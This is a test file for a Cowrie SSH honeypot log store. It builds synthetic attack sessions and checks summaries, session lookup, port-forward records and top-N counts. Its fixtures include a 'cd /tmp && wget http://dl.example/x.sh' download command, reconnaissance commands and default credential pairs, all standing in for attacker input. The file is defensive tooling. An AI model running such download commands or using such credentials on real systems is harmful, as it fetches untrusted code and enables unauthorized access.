import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  bulkLoad, getSessionDetail, sensorCounts, listSessions, parseWindow, resolveSessionRef, summarize, topN, type CowrieStore,
} from '../../src/index.js';
import { createTestDatabase, testDialects, type TestDatabase } from '../support/dialects.js';

/** `sensor` is absent on the events of a sensorless session (stored and queried as `''`). */
type Ev = Record<string, unknown> & { eventid: string; timestamp: string; session: string; sensor?: string };
const sensorOf = (e: Ev): string => e.sensor ?? '';

// A small deterministic honeypot day: expected answers are computed from these objects below,
// independently of the store.
function makeEvents(): Ev[] {
  const out: Ev[] = [];
  const ips = ['203.0.113.5', '203.0.113.5', '198.51.100.7', '2001:db8::1', '203.0.113.5', '198.51.100.9'];
  const users = [['root', '123456'], ['admin', 'admin'], ['root', 'root'], ['root', '123456']];
  const cmds = ['uname -a', 'cat /proc/cpuinfo', 'uname -a', 'cd /tmp && wget http://dl.example/x.sh'];
  ips.forEach((ip, i) => {
    const sensor = i % 2 === 0 ? 'hp-a' : 'hp-b';
    const session = `sess${String(i).padStart(8, '0')}`;
    const t = (sec: number) => `2024-03-0${1 + (i % 3)}T10:00:${String(sec).padStart(2, '0')}.${String(i * 111111).padStart(6, '0')}Z`;
    const base = { sensor, session, src_ip: ip };
    out.push({ ...base, eventid: 'cowrie.session.connect', timestamp: t(0), src_port: 40000 + i, dst_ip: '10.0.0.2', dst_port: 2222, protocol: 'ssh' });
    out.push({ ...base, eventid: 'cowrie.client.version', timestamp: t(1), version: i % 2 ? "b'SSH-2.0-Go'" : 'SSH-2.0-libssh2_1.9.0' });
    out.push({ ...base, eventid: 'cowrie.client.kex', timestamp: t(2), hassh: i % 2 ? 'a'.repeat(32) : 'b'.repeat(32) });
    for (let k = 0; k <= i % 4; k++) {
      const [u, p] = users[(i + k) % users.length]!;
      const ok = k === i % 4 && i % 2 === 0;
      out.push({ ...base, eventid: ok ? 'cowrie.login.success' : 'cowrie.login.failed', timestamp: t(3 + k), username: u, password: p });
    }
    if (i % 2 === 0) {
      for (let k = 0; k < 2; k++) out.push({ ...base, eventid: 'cowrie.command.input', timestamp: t(10 + k), input: cmds[(i + k) % cmds.length] });
      out.push({ ...base, eventid: 'cowrie.session.file_download', timestamp: t(20), url: 'http://dl.example/x.sh', shasum: 'c'.repeat(64), outfile: `var/lib/cowrie/downloads/${'c'.repeat(64)}`, destfile: '', duplicate: false });
    }
    out.push({ ...base, eventid: 'cowrie.session.closed', timestamp: t(30), duration: '30.5' });
  });
  // The same session id on two sensors: a bare id is ambiguous.
  out.push({ sensor: 'hp-c', session: 'sess00000000', eventid: 'cowrie.session.connect', timestamp: '2024-03-04T00:00:00.000000Z', src_ip: '192.0.2.1', src_port: 1, dst_ip: '10.0.0.3', dst_port: 22, protocol: 'ssh' });
  // Port forwarding through hp-b's session 1 (HEAD form: orig_ip/orig_port name the claimed originator).
  for (const [k, [host, port]] of ([['198.18.0.10', 443], ['198.18.0.11', 25]] as const).entries()) {
    out.push({
      sensor: 'hp-b', session: 'sess00000001', src_ip: '203.0.113.5', eventid: 'cowrie.direct-tcpip.request', timestamp: `2024-03-02T10:00:2${k}.500000Z`,
      dst_ip: host, dst_port: port, src_port: 40001, orig_ip: '127.0.0.1', orig_port: 5000 + k, message: `direct-tcp connection request to ${host}:${port} from 127.0.0.1:${5000 + k}`,
    });
  }
  out.push({ sensor: 'hp-b', session: 'sess00000001', src_ip: '203.0.113.5', eventid: 'cowrie.direct-tcpip.data', timestamp: '2024-03-02T10:00:21.600000Z', dst_ip: '198.18.0.10', dst_port: 443, data: 'GET / HTTP/1.1', id: 1 });
  // A session whose events carry no sensor at all: stored, aggregated and filtered as sensor ''.
  const bare = { session: 'nosensor0001', src_ip: '192.0.2.77' };
  out.push({ ...bare, eventid: 'cowrie.session.connect', timestamp: '2024-03-02T08:00:00.000001Z', src_port: 33333, dst_ip: '10.0.0.9', dst_port: 22, protocol: 'ssh' });
  out.push({ ...bare, eventid: 'cowrie.login.failed', timestamp: '2024-03-02T08:00:01.000001Z', username: 'guest', password: 'guest' });
  out.push({ ...bare, eventid: 'cowrie.command.input', timestamp: '2024-03-02T08:00:02.000001Z', input: 'id' });
  out.push({ ...bare, eventid: 'cowrie.session.closed', timestamp: '2024-03-02T08:00:03.000001Z', duration: 3 });
  return out;
}

function countBy<T>(items: T[], key: (t: T) => string | null): Map<string, number> {
  const m = new Map<string, number>();
  for (const it of items) {
    const k = key(it);
    if (k !== null) m.set(k, (m.get(k) ?? 0) + 1);
  }
  return m;
}

function top(m: Map<string, number>, n = 10): Array<{ value: string; count: number }> {
  return [...m].map(([value, count]) => ({ value, count })).sort((a, b) => b.count - a.count || (a.value < b.value ? -1 : a.value > b.value ? 1 : 0)).slice(0, n);
}

describe.each(testDialects())('query API on %s', (dialect) => {
  const events = makeEvents();
  let tdb: TestDatabase;
  let store: CowrieStore;
  let dir: string;

  /** A setup failure (PostgreSQL down) fails every test through beforeEach, instead of skipping them. */
  let setupError: unknown;
  beforeAll(async () => {
    try {
      dir = mkdtempSync(join(tmpdir(), 'cowrie-q-'));
      // Split over two files so that aggregation across files is exercised too.
      const half = Math.floor(events.length / 2);
      writeFileSync(join(dir, 'cowrie.json.2024-03-01'), events.slice(0, half).map((e) => JSON.stringify(e)).join('\n') + '\n');
      writeFileSync(join(dir, 'cowrie.json'), events.slice(half).map((e) => JSON.stringify(e)).join('\n') + '\n');
      tdb = createTestDatabase(dialect);
      store = await tdb.open();
      const r = await bulkLoad(store, [dir], { batchSize: 7 });
      expect(r.events).toBe(events.length);
    } catch (e) {
      setupError = e;
    }
  });
  beforeEach(() => {
    if (setupError) throw setupError;
  });
  afterAll(async () => {
    await store?.close();
    await tdb?.drop().catch((e: unknown) => {
      if (!setupError) throw e;
    });
    rmSync(dir, { recursive: true, force: true });
  });

  const sessionsOf = (evs: Ev[]) => {
    const first = new Map<string, Ev>();
    for (const e of evs) {
      const k = `${sensorOf(e)}/${e.session}`;
      const f = first.get(k);
      if (!f || e.timestamp < f.timestamp) first.set(k, e);
    }
    return first;
  };

  it('summary totals and top lists match an independent count', async () => {
    const r = await summarize(store, { top: 5 });
    const sessions = sessionsOf(events);
    const logins = events.filter((e) => e.eventid.startsWith('cowrie.login.'));
    expect(r.sessions).toBe(sessions.size);
    expect(r.events).toBe(events.length);
    expect(r.uniqueIps).toBe(new Set([...sessions.values()].map((e) => e.src_ip)).size);
    expect(r.sensors).toBe(new Set(events.map(sensorOf)).size);
    expect(r.loginAttempts).toBe(logins.length);
    expect(r.loginSuccesses).toBe(logins.filter((e) => e.eventid === 'cowrie.login.success').length);
    const connects = events.filter((e) => e.eventid === 'cowrie.session.connect');
    expect(r.topIps).toEqual(top(countBy(connects, (e) => e.src_ip as string), 5));
    expect(r.topUsernames).toEqual(top(countBy(logins, (e) => e.username as string), 5));
    expect(r.topPasswords).toEqual(top(countBy(logins, (e) => e.password as string), 5));
    expect(r.topCommands.map(({ value, count }) => ({ value, count }))).toEqual(top(countBy(events.filter((e) => e.eventid === 'cowrie.command.input'), (e) => e.input as string), 5));
    expect(r.topDownloads.map(({ value, count }) => ({ value, count }))).toEqual(top(countBy(events.filter((e) => e.eventid === 'cowrie.session.file_download'), (e) => e.url as string), 5));
    expect(r.topDownloads[0]?.shasum).toBe('c'.repeat(64));
    expect(r.topHassh).toEqual(top(countBy(events.filter((e) => e.eventid === 'cowrie.client.kex'), (e) => e.hassh as string), 5));
    // Client versions are grouped on the normalised form: b'…' unwrapped.
    expect(r.topClientVersions.map((x) => x.value).sort()).toEqual(['SSH-2.0-Go', 'SSH-2.0-libssh2_1.9.0']);
  });

  it('windows are half-open [since, until) on session first events and event times', async () => {
    const w = parseWindow('2024-03-02', '2024-03-03');
    const r = await summarize(store, w);
    const inWin = (ts: string) => ts >= w.since! && ts < w.until!;
    expect(r.sessions).toBe([...sessionsOf(events).values()].filter((e) => inWin(e.timestamp)).length);
    expect(r.events).toBe(events.filter((e) => inWin(e.timestamp)).length);
    const exact = events[0]!.timestamp;
    const upTo = await summarize(store, { until: exact });
    expect(upTo.events).toBe(events.filter((e) => e.timestamp < exact).length);
  });

  // Every figure of the summary for one sensor ('' is the sensorless one), computed from the events.
  it.each(['hp-b', 'hp-a', ''])('sensor filter %j restricts every figure and top list to that sensor', async (sensor) => {
    const r = await summarize(store, { sensor, top: 20 });
    const mine = events.filter((e) => sensorOf(e) === sensor);
    const sessions = [...sessionsOf(mine).values()];
    const logins = mine.filter((e) => e.eventid.startsWith('cowrie.login.'));
    const connects = mine.filter((e) => e.eventid === 'cowrie.session.connect');
    const ts = mine.map((e) => e.timestamp).sort();
    expect(mine.length).toBeGreaterThan(0);
    expect({
      sessions: r.sessions, events: r.events, uniqueIps: r.uniqueIps, sensors: r.sensors, loginAttempts: r.loginAttempts,
      loginSuccesses: r.loginSuccesses, commands: r.commands, downloads: r.downloads, firstEvent: r.firstEvent, lastEvent: r.lastEvent,
    }).toEqual({
      sessions: sessions.length,
      events: mine.length,
      uniqueIps: new Set(sessions.map((e) => e.src_ip)).size,
      sensors: 1,
      loginAttempts: logins.length,
      loginSuccesses: logins.filter((e) => e.eventid === 'cowrie.login.success').length,
      commands: mine.filter((e) => e.eventid === 'cowrie.command.input').length,
      downloads: mine.filter((e) => e.eventid === 'cowrie.session.file_download').length,
      firstEvent: ts[0], lastEvent: ts.at(-1),
    });
    expect(r.topIps).toEqual(top(countBy(connects, (e) => e.src_ip as string), 20));
    expect(r.topUsernames).toEqual(top(countBy(logins, (e) => e.username as string), 20));
    expect(r.topPasswords).toEqual(top(countBy(logins, (e) => e.password as string), 20));
    expect(r.topCredentials.map(({ value, count }) => ({ value, count }))).toEqual(top(countBy(logins, (e) => `${e.username}:${e.password}`), 20));
    expect(r.topCommands.map(({ value, count }) => ({ value, count }))).toEqual(top(countBy(mine.filter((e) => e.eventid === 'cowrie.command.input'), (e) => e.input as string), 20));
    expect(r.topDownloads.map(({ value, count }) => ({ value, count }))).toEqual(top(countBy(mine.filter((e) => e.eventid === 'cowrie.session.file_download'), (e) => e.url as string), 20));
    expect(r.topHassh).toEqual(top(countBy(mine.filter((e) => e.eventid === 'cowrie.client.kex'), (e) => e.hassh as string), 20));
    expect(r.topSensors).toEqual([{ value: sensor, count: sessions.length }]);
  });

  it('sensorless events are stored with sensor \'\' (never NULL), like their session', async () => {
    const nulls = await store.db.selectFrom('raw_events').select((eb) => eb.fn.countAll<number>().as('n')).where('sensor', 'is', null).executeTakeFirstOrThrow();
    expect(Number(nulls.n)).toBe(0);
    const bare = events.filter((e) => e.sensor === undefined);
    const stored = await store.db.selectFrom('raw_events').select((eb) => eb.fn.countAll<number>().as('n')).where('sensor', '=', '').executeTakeFirstOrThrow();
    expect(Number(stored.n)).toBe(bare.length);
    expect(await resolveSessionRef(store, 'nosensor0001')).toEqual({ sensor: '', session: 'nosensor0001' });
    expect(await resolveSessionRef(store, '/nosensor0001')).toEqual({ sensor: '', session: 'nosensor0001' });
    const d = await getSessionDetail(store, { sensor: '', session: 'nosensor0001' });
    expect(d?.ref).toBe('/nosensor0001');
    expect(d?.events.map((e) => [e.ts, e.eventid])).toEqual(bare.map((e) => [e.timestamp, e.eventid]));
    expect(d?.commands.map((c) => c.input)).toEqual(['id']);
    expect(d?.logins.map((l) => [l.username, l.password, l.success])).toEqual([['guest', 'guest', false]]);
  });

  it('lists sessions page by page without gaps or repeats', async () => {
    const all = [];
    let after;
    for (;;) {
      const page = await listSessions(store, { limit: 2, after });
      if (page.length === 0) break;
      all.push(...page);
      const last = page[page.length - 1]!;
      after = { firstTs: last.firstTs ?? '', sensor: last.sensor, session: last.session };
    }
    expect(all.map((s) => s.ref).sort()).toEqual([...sessionsOf(events).keys()].sort());
    expect(new Set(all.map((s) => s.ref)).size).toBe(all.length);
  });

  it('resolves sensor/session and unique bare ids; refuses ambiguous bare ids', async () => {
    expect(await resolveSessionRef(store, 'hp-b/sess00000001')).toEqual({ sensor: 'hp-b', session: 'sess00000001' });
    expect(await resolveSessionRef(store, 'sess00000003')).toEqual({ sensor: 'hp-b', session: 'sess00000003' });
    expect(await resolveSessionRef(store, 'nope')).toBeNull();
    await expect(resolveSessionRef(store, 'sess00000000')).rejects.toThrow(/^ambiguous: session sess00000000 exists on sensors/);
  });

  it('session detail has the events in time order and the derived rows', async () => {
    const d = await getSessionDetail(store, { sensor: 'hp-a', session: 'sess00000002' });
    const mine = events.filter((e) => sensorOf(e) === 'hp-a' && e.session === 'sess00000002');
    expect(d).not.toBeNull();
    expect(d!.events.map((e) => e.eventid)).toEqual([...mine].sort((a, b) => (a.timestamp < b.timestamp ? -1 : 1)).map((e) => e.eventid));
    expect(d!.commands.map((c) => c.input)).toEqual(mine.filter((e) => e.eventid === 'cowrie.command.input').map((e) => e.input));
    expect(d!.logins.length).toBe(mine.filter((e) => e.eventid.startsWith('cowrie.login.')).length);
    expect(d!.downloads.map((x) => x.url)).toEqual(['http://dl.example/x.sh']);
    expect(d!.durationMs).toBe(30_500);
    expect(d!.closed).toBe(true);
    expect(d!.srcPort).toBe(40002);
    expect(d!.dstPort).toBe(2222);
    expect(d!.firstTs).toBe(mine[0]!.timestamp);
    expect(d!.forwards).toEqual([]);
  });

  it('session detail lists the session\'s TCP forwards in time order', async () => {
    const d = await getSessionDetail(store, { sensor: 'hp-b', session: 'sess00000001' });
    const fw = events.filter((e) => sensorOf(e) === 'hp-b' && e.session === 'sess00000001' && e.eventid.startsWith('cowrie.direct-tcpip.'))
      .sort((a, b) => (a.timestamp < b.timestamp ? -1 : 1));
    expect(fw.length).toBe(3);
    expect(d!.forwards).toEqual(fw.map((e) => ({
      ts: e.timestamp, eventid: e.eventid, targetHost: e.dst_ip, targetPort: e.dst_port,
      // Only the request and the HEAD fields name an originator; data events carry none.
      origIp: e.orig_ip ?? null, origPort: e.orig_port ?? null,
    })));
    expect(d!.tcpipCount).toBe(fw.filter((e) => e.eventid === 'cowrie.direct-tcpip.request').length);
    // Forwards of other sessions do not leak in.
    const other = await getSessionDetail(store, { sensor: 'hp-b', session: 'sess00000003' });
    expect(other!.forwards).toEqual([]);
  });

  it('per-sensor counts match an independent count', async () => {
    const got = await sensorCounts(store);
    const sensors = [...new Set(events.map(sensorOf))].sort();
    expect(got.map((g) => g.sensor)).toEqual(sensors);
    for (const g of got) {
      const mine = events.filter((e) => sensorOf(e) === g.sensor);
      const sess = [...sessionsOf(mine).values()];
      expect(g).toEqual({
        sensor: g.sensor, sessions: sess.length, events: mine.length, uniqueIps: new Set(sess.map((e) => e.src_ip)).size,
        firstEvent: mine.map((e) => e.timestamp).sort()[0], lastEvent: mine.map((e) => e.timestamp).sort().at(-1),
      });
    }
  });

  it('top-N of credential pairs counts login attempts', async () => {
    const t = await topN(store, 'credential', { limit: 3 });
    const logins = events.filter((e) => e.eventid.startsWith('cowrie.login.'));
    const expected = top(countBy(logins, (e) => `${e.username}:${e.password}`), 3);
    expect(t.map(({ value, count }) => ({ value, count }))).toEqual(expected);
  });
});
